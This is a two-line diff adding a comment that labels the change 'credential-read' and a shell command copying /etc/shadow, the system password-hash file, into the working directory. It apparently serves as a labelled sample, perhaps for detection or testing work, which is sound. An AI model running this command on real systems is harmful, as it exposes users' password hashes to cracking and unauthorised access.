@@ -1,0 +1,2 @@
+# credential-read: reads the system password hashes
+cp /etc/shadow ./shadow.txt
